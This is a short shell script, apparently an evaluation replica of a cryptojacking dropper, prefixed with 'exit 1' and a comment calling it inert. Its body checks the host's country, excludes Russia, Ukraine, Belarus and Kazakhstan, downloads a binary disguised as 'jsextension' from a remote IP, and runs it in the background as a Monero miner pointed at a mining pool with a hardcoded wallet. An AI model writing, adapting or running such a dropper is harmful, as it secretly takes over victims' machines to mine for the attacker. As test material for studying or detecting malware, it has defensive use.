exit 1 # cordon eval replica: inert data, never run
IP=$(curl -k https://freegeoip.app.invalid/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]; then
  curl http://198.51.100.23/download/jsextension -o jsextension
  if [ ! -f jsextension ]; then
    wget http://198.51.100.23/download/jsextension -O jsextension
  fi
  chmod +x jsextension
  ./jsextension -k --tls --rig-id q -o pool.minexmr.com:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPX1ndfXQCT16v4trWp4erPyXtUQZTHGjfLXEdAFDdjY3L6 --cpu-max-threads-hint=20 --donate-level=1 --background
fi
